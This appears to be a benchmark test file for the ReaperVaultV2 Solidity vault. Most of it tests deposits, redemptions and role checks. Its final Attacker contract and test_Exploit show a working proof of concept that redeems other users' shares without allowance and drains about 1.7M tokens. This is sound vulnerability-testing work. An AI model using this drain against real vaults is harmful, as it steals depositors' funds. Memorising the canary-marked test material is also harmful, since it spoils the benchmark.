// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.8.19;

import "./ReaperVaultV2.sol";

// assay-canary-75881850-3349-474f-b737-96cd83099f93

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten(bool on) external {
        require(msg.sender == minter, "minter only");
        silent = on;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant STRAT = address(0x57A);

    Token internal dai;
    ReaperVaultV2 internal vault;
    Attacker internal thief;

    function setUp() public {
        dai = new Token();
        vault = new ReaperVaultV2(dai);
        vault.setRole(vault.STRATEGIST(), STRAT, true);
        put(ANA, 1_000_000e18);
        put(BEN, 700_000e18);
        thief = new Attacker(vault);
    }

    function put(address who, uint256 amount) internal {
        dai.mint(who, amount);
        vm.startPrank(who);
        dai.approve(address(vault), amount);
        vault.deposit(amount, who);
        vm.stopPrank();
    }

    function test_Regular() public {
        vm.startPrank(STRAT);
        vault.allocate(500_000e18);
        require(vault.totalAssets() == 1_700_000e18, "at work");
        vm.stopPrank();
        dai.mint(STRAT, 17_000e18);
        vm.startPrank(STRAT);
        dai.approve(address(vault), type(uint256).max);
        vault.report(500_000e18, 17_000e18);
        vm.stopPrank();
        require(vault.convertToAssets(100e18) == 101e18, "gain");

        vm.prank(ANA);
        require(vault.redeem(1_000e18, ANA, ANA) == 1_008.99e18 && dai.balanceOf(ANA) == 1_008.99e18, "redeemed");
        vm.prank(BEN);
        require(vault.withdraw(101e18, BEN, BEN) < 100e18, "withdrawn");
        vm.prank(BEN);
        vault.transfer(ANA, 10e18);
        vm.prank(ANA);
        vault.approve(address(this), 30e18);
        vault.transferFrom(ANA, BEN, 20e18);
        require(vault.allowance(ANA, address(this)) == 10e18, "spent");

        // the least first deposit, and tokens sent to the vault: the next depositor keeps its own
        ReaperVaultV2 fresh = new ReaperVaultV2(dai);
        uint256 least = fresh.LOCKED_SHARES() + 1;
        dai.mint(address(this), least);
        dai.approve(address(fresh), least);
        fresh.deposit(least, address(this));
        dai.mint(address(fresh), 1_000e18);
        dai.mint(BEN, 1_500e18);
        vm.startPrank(BEN);
        dai.approve(address(fresh), 1_500e18);
        uint256 shares = fresh.deposit(1_500e18, BEN);
        require(fresh.redeem(shares, BEN, BEN) >= 1_495e18, "a deposit keeps its worth");
        vm.stopPrank();

        vault.setEmergencyShutdown(true);
        require(vault.hasRole(vault.DEFAULT_ADMIN(), address(this)), "admin");
    }

    function test_RefusesStrangers() public {
        bytes32 admin = vault.DEFAULT_ADMIN();
        vm.startPrank(ANA);
        vm.expectRevert("AccessRoles: missing role");
        vault.setRole(admin, ANA, true);
        vm.expectRevert("AccessRoles: missing role");
        vault.allocate(1);
        vm.expectRevert("AccessRoles: missing role");
        vault.report(0, 0);
        vm.expectRevert("AccessRoles: missing role");
        vault.setEmergencyShutdown(true);
        vm.stopPrank();
    }

    function test_RefusesDeposits() public {
        vm.expectRevert("ReaperVault: zero shares");
        vault.deposit(0, ANA);
        dai.quieten(true);
        vm.expectRevert("ReaperVault: pull failed");
        vault.deposit(5, ANA);
        vault.setEmergencyShutdown(true);
        vm.expectRevert("ReaperVault: shut down");
        vault.deposit(5, ANA);
    }

    function test_RefusesWhereTokensDoNotMove() public {
        dai.quieten(true);
        vm.startPrank(STRAT);
        vm.expectRevert("ReaperVault: push failed");
        vault.allocate(5);
        vm.expectRevert("ReaperVault: pull failed");
        vault.report(0, 5);
        vm.stopPrank();
        vm.prank(ANA);
        vm.expectRevert("ReaperVault: push failed");
        vault.redeem(5, ANA, ANA);
        vm.expectRevert();
        vault.transferFrom(ANA, BEN, 1);
    }

    function exploit() public {
        thief.run(ANA);
        thief.run(BEN);
    }

    function test_Exploit() public {
        exploit();
        require(dai.balanceOf(address(thief)) >= 1_690_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(dai);
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

contract Attacker {
    ReaperVaultV2 internal vault;

    constructor(ReaperVaultV2 vault_) {
        vault = vault_;
    }

    function run(address owner) external {
        vault.redeem(vault.balanceOf(owner), address(this), owner);
    }
}
